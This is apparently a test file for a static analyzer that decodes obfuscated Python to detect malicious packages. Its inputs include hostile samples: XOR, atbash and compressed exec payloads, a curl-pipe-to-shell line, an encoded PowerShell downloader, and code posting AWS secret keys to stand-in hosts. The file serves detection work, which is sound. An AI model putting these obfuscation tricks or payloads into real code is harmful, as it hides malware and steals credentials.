import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FactExtractor } from '../../../src/analysis/python/facts.js';
import { copyTree } from '../../../src/analysis/python/lnode.js';
import { parsePython, pythonParser } from '../../../src/analysis/python/parser.js';
import { base85Decode, base32Decode, fernetDecrypt, rot13 } from '../../../src/analysis/python/decode.js';
import { classifyHost, makeDest } from '../../../src/analysis/python/values.js';

async function facts(src: string) {
  const parser = await pythonParser();
  const tree = parsePython(parser, src, 2000);
  assert.ok(tree);
  const ex = new FactExtractor({ parser, maxDecodeDepth: 6, maxDecodedBytes: 1 << 20, deadline: performance.now() + 5000, parseBudgetMs: 1000 }, 'm');
  ex.walkModule(copyTree(tree, src));
  tree.delete();
  return ex.facts;
}

test('reversed strings, chr maps and getattr(__builtins__) fold to the hidden call', async () => {
  const f = await facts(
    "import os\nf = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))\nf('import os; os.system(\"id\")')\nu = 'dilavni.tset//:sptth'[::-1]\n",
  );
  assert.equal(f.execs[0]?.via, 'exec');
  assert.ok(f.commands.some((c) => c.cmd === 'id' && c.line === 3 && c.decoded !== undefined));
  assert.ok(f.strings.some((s) => s.s === 'https://test.invalid' && s.dec));
});

test('an XOR decoding loop is unrolled and the payload analysed at the exec line', async () => {
  const key = 'k';
  const payload = "import os; os.system('curl https://x.invalid/a | sh')";
  const enc = [...payload].map((c) => c.charCodeAt(0) ^ key.charCodeAt(0));
  const f = await facts(`data = ${JSON.stringify(enc)}\nout = ''\nfor b in data:\n    out += chr(b ^ ord('${key}'))\nexec(out)\n`);
  const cmd = f.commands.find((c) => c.cmd.includes('curl'));
  assert.equal(cmd?.line, 5);
});

test('python 2 syntax parses without errors; broken code reports a parse error line', async () => {
  assert.equal((await facts("print 'hi'\nexec code\n")).parseErrors, undefined);
  assert.equal((await facts('x = 1\ndef f(:\n  pass\n')).parseErrors?.line, 2);
});

test('values flow through helper functions and containers into sinks', async () => {
  const f = await facts(
    "import socket, requests\ndef info():\n    return {'h': socket.gethostname()}\ndef send(d):\n    requests.post('https://c.invalid', json=d)\nsend(info())\n",
  );
  assert.deepEqual(f.functions.find((s) => s.name === 'send')?.paramSinks.has(0), true);
  assert.ok(f.pending.some((p) => p.callee === 'send' && (p.argSources[0] ?? []).includes('recon:hostname')));
});

test('PowerShell -EncodedCommand payloads are decoded', async () => {
  const inner = Buffer.from('iwr https://x.invalid/a.exe -OutFile a.exe; Start-Process a.exe', 'utf16le').toString('base64');
  const f = await facts(`import subprocess\nsubprocess.Popen('powershell -EncodedCommand ${inner}')\n`);
  assert.ok(f.commands.some((c) => c.fromDecoded && c.cmd.startsWith('iwr')));
});

test('decoders: base32, base85, rot13, fernet', () => {
  assert.equal(base32Decode('NBSWY3DP', 100), 'hello');
  assert.equal(base85Decode('Xk~0{Zy', 100), 'hello');
  assert.equal(rot13('uryyb'), 'hello');
  assert.equal(fernetDecrypt('AAAA', 'gAAAA', 100), undefined);
});

test('destinations are classified; data in leading DNS labels keeps the fixed suffix', () => {
  assert.equal(classifyHost('abc.oastify.com'), 'oob');
  assert.equal(classifyHost('sts.amazonaws.com'), 'vendor');
  assert.equal(classifyHost('203.0.113.9'), 'ip');
  assert.equal(classifyHost('discord.com'), 'messenger');
  assert.equal(makeDest('\uFFFD.probe.interact.sh', false).cls, 'oob');
});

test('pathological nesting degrades to partial analysis with a finding, never a crash', async () => {
  const { analyzePython } = await import('../../../src/analysis/python/index.js');
  const { DEFAULT_LIMITS } = await import('../../../src/core/limits.js');
  const data = new TextEncoder().encode(`x = ${'('.repeat(3000)}1${')'.repeat(3000)}\n`);
  const out = await analyzePython(
    { format: 'directory', files: [{ path: 'setup.py', data, size: data.byteLength }], issues: [], totalBytes: data.byteLength },
    { ecosystem: 'pypi', artifact: 'x', limits: DEFAULT_LIMITS, deadline: performance.now() + 10_000 },
  );
  assert.ok(out.findings.some((f) => f.ruleId === 'py/parse-error'));
});

test('lzma (xz) and bz2 payloads are decompressed and analysed', async () => {
  for (const [mod, blob] of [
    ['lzma', '/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AMsAE9dADSbSme4Ujxz7TRXYRHYsfwF4tukqEV3MLJeobBTJR4qouUcONer8du52Hyk0UI4oAY6RkFrXVHV8Nz8vzlfVkd28Kpc8/MgSx+Vl6yLAAAAABLRO4BImRK3AAFrrQYAAAC/L7oMscRn+wIAAAAABFla'],
    ['bz2', 'QlpoOTFBWSZTWSVr5B0AAQZZgAAQQOGAEi7n32QgAHISVAZB5TQAZAqVTIM1MhiZPU0052kbXkbkZ1yJJx5sI0xxI1wphlpnb2IsqEfrvngIuCPVQilM9eoRtvf9yECHwiwIrBJbPOahdRmlHum7gjm/H8XckU4UJAla+QdA'],
  ] as const) {
    const f = await facts(`import base64, ${mod}\nexec(${mod}.decompress(base64.b64decode('${blob}')))\n`);
    const cmd = f.commands.find((c) => c.cmd.includes('curl https://x.invalid/a'));
    assert.ok(cmd !== undefined, `${mod}: the decoded command is found`);
    assert.equal(cmd.line, 2);
  }
  // A corrupt stream is a decode failure, not an exception.
  const bad = await facts("import lzma\nexec(lzma.decompress(b'\\xfd7zXZ\\x00\\x00garbage'))\n");
  assert.equal(bad.commands.length, 0);
});

test('identifiers in mathematical or full-width letters are the names Python sees (NFKC)', async () => {
  // 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀 / ｓｕｂｐｒｏｃｅｓｓ are `requests` / `subprocess` to the interpreter (PEP 3131).
  const f = await facts(
    "import requests, subprocess\n\u{1d5ff}\u{1d5f2}\u{1d666}\u{1d602}\u{1d65a}\u{1d600}\u{1d601}\u{1d600}.get('https://x.invalid/a.exe')\n\uff53\uff55\uff42\uff50\uff52\uff4f\uff43\uff45\uff53\uff53.call(['a.exe'])\n",
  );
  assert.ok(f.sinks.some((s) => s.line === 2), 'the request through the disguised module name is a sink');
  assert.ok(f.commands.some((c) => c.line === 3 && c.via.startsWith('subprocess')), 'the disguised subprocess call is a command');
});

test('generator arguments, filtered comprehensions and builtins aliased with setattr fold', async () => {
  // `f(x for x in y)` passes the generator itself; the `if` filter is an opaque always-true predicate.
  const f = await facts(
    [
      'import os',
      "eval(''.join(chr(i) for i in [101, 120, 101, 99]))(\"setattr(__builtins__, '_x', exec)\")",
      "_x(''.join(chr(int(c / 2)) for c in [210, 218, 224, 222, 228, 232, 64, 222, 230] if _x != print) + '; os.system(\"id\")')",
    ].join('\n') + '\n',
  );
  assert.ok(f.execs.some((e) => e.via === 'exec' && e.line === 2 && e.code?.startsWith('setattr')), 'eval("exec") is exec');
  assert.ok(f.execs.some((e) => e.via === 'exec' && e.line === 3), 'the alias defined by setattr(__builtins__) is exec');
  assert.ok(f.commands.some((c) => c.cmd === 'id' && c.line === 3));
  // A filter that folds to false drops the item.
  const g = await facts("x = ''.join(c for c in ['a', 'b', 'c'] if 0)\nexec('import os; os.system(\"' + x + 'id\")')\n");
  assert.ok(g.commands.some((c) => c.cmd === 'id'));
});

test('lists built with append in a decoding loop fold, and appended taint follows the list', async () => {
  const payload = "import os; os.system('id')";
  const enc = [...payload].map((c) => c.charCodeAt(0) ^ 7);
  const f = await facts(`data = ${JSON.stringify(enc)}\nout = []\nfor b in data:\n    out.append(chr(b ^ 7))\nexec(''.join(out))\n`);
  assert.ok(f.commands.some((c) => c.cmd === 'id' && c.line === 5));
  const g = await facts("import os, requests\nparts = []\nparts.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://x.example.invalid', data=parts)\n");
  assert.ok(g.sinks.some((s) => s.sources.some((l) => l.includes('AWS_SECRET_ACCESS_KEY'))), JSON.stringify(g.sinks.map((s) => s.sources)));
});

test('a substitution cipher over string.ascii_letters (atbash) decodes: index lookups, membership and conditional picks', async () => {
  const atbash = (s: string): string => {
    const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
    const r = [...a].reverse().join('');
    return [...s].map((c) => (a.includes(c) ? r[a.indexOf(c)] : c)).join('');
  };
  const hidden = atbash("import os;os.system('id')");
  const f = await facts(`import string\na_l=string.ascii_letters\nr_l=a_l[::-1]\nexec("".join([r_l[a_l.index(c)] if c in r_l else c for c in ${JSON.stringify(hidden)}]))\n`);
  assert.equal(f.execs[0]?.code, "import os;os.system('id')");
  assert.ok(f.commands.some((c) => c.cmd === 'id'));
  // Comparisons of constants decide a conditional; anything else keeps the first branch.
  const g = await facts("exec('a' if 2 < 1 else 'b')\nexec('c' if 'x' not in 'xyz' else 'd')\n");
  assert.deepEqual(g.execs.map((e) => e.code), ['b', 'd']);
});

test('attribute names that exist on JavaScript objects are not mistaken for known constants', async () => {
  const f = await facts('import builtins, string\nexec(builtins.constructor)\nexec(string.toString)\n');
  assert.deepEqual(f.execs.map((e) => e.code), [undefined, undefined]);
});

test('a lookup-table cipher (nested comprehension joined on a key) decodes by index, not by scanning the table per character', async () => {
  const table: Record<string, string> = {};
  const alphabet = "abcdefghijklmnopqrstuvwxyz ;.'()=_";
  const shuffled = [...alphabet].reverse().join('');
  [...alphabet].forEach((c, i) => (table[c] = shuffled[i] as string));
  const plain = "import os;os.system('id')";
  const encoded = [...plain].map((c) => table[c]).join('');
  const dict = `{${Object.entries(table).map(([k, v]) => `${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(', ')}}`;
  const f = await facts(`exec(''.join([y[0] for x in [x for x in ${JSON.stringify(encoded)}] for y in [[x[0], x[1]] for x in ${dict}.items()] if x == y[1]]))\n`);
  assert.equal(f.execs[0]?.code, plain);
  assert.ok(f.commands.some((c) => c.cmd === 'id'));
  // A table that depends on the outer item is not indexed once (each item gets its own scan).
  const g = await facts("exec(''.join([y for x in 'ab' for y in [x + '1', x + '2'] if y == x + '2']))\n");
  assert.equal(g.execs[0]?.code, 'a2b2');
});

test('__import__ of a dotted name is the top package; its attributes walk back down to the module', async () => {
  const f = await facts("req = __import__('urllib.request')\nreq.request.urlopen(req.request.Request('https://log.invalid/x', data=b'1'))\nbad = __import__('urllib.request').urlopen('https://b.invalid/')\nos_ = __import__('os.path', fromlist=['join'])\nos_.join('a', 'b')\n");
  assert.deepEqual(f.sinks.map((s) => `${s.via} ${s.dest?.host ?? ''}`), ['urllib.request.urlopen log.invalid', 'urllib.request.urlopen b.invalid']);
  assert.ok(f.calls.some((c) => c.name === 'os.path.join'));
});

test('unpickling a pickled response is not running downloaded code', async () => {
  const f = await facts("import pickle, requests\ndef t():\n    r = requests.get('https://example.org/')\n    return pickle.loads(pickle.dumps(r))\n");
  assert.equal(f.execs.filter((e) => e.fromNetwork).length, 0);
});

test('a method of a local class called on an instance returns what the method returns (a response read through an opener)', async () => {
  const f = await facts(
    "from urllib import request\nimport subprocess\nclass Request:\n    def get(self, url):\n        res = request.build_opener().open(request.Request(url), timeout=5)\n        return res.read()\nreq = Request()\nsubprocess.Popen(req.get('https://c2.invalid/y').decode().split('<!--')[1], shell=True)\n",
  );
  // (the method is also evaluated with the caller's arguments, as any local function is: one sink, two facts)
  assert.deepEqual([...new Set(f.sinks.map((s) => `${s.via} ${s.fn ?? ''}`))], ['urllib.request.build_opener.open Request.get']);
  assert.ok(f.sinks.some((s) => s.dest?.host === 'c2.invalid'));
  assert.equal(f.commands[0]?.fromNetwork, true);
});
